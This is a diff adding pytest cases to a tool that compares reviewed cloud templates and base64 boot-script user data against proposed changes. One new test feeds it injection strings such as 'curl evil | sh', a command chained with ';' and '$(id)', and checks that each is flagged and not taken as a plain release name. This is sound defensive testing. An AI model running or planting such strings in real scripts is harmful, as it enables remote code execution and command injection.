@@ -115,6 +115,17 @@ def test_user_data_is_compared_by_what_it_says():
     assert "userData.boot script" in differences(reviewed, template(change("userData", user_data(), other)))[0]
 
 
+@pytest.mark.parametrize(
+    "line", ["SHA=$(curl evil | sh)", "COMMAND=./serve;curl evil", 'DIGEST="$(id)"', "COMMAND=a b"]
+)
+def test_the_release_is_left_out_only_as_a_plain_word(line: str):
+    """What the shell would run is no name of a release, whatever it is assigned to."""
+    name = line.partition("=")[0]
+    lines = [line if each.startswith(f"{name}=") else each for each in render(BOOT).split("\n")]
+    other = base64.b64encode("\n".join(lines).encode()).decode()
+    assert f"userData.{name}" in differences(made(), template(change("userData", user_data(), other)))[0]
+
+
 @pytest.mark.parametrize("given", ["not base64!", base64.b64encode(b"\xff").decode()])
 def test_user_data_that_is_no_text_is_compared_whole(given: str):
     """Nothing that can't be read passes unseen."""
@@ -148,6 +159,7 @@ def test_another_operation_is_another_step(reviewed: str, now: str):
 def test_one_and_true_are_not_the_same():
     """Values are compared as JSON has them."""
     assert differences(made(step("a", change("x", 0, 1))), step("a", change("x", 0, True))) != []
+    assert differences(made(), step("a", change("x", 1, True))) != []
 
 
 def test_several_pull_requests_at_once():
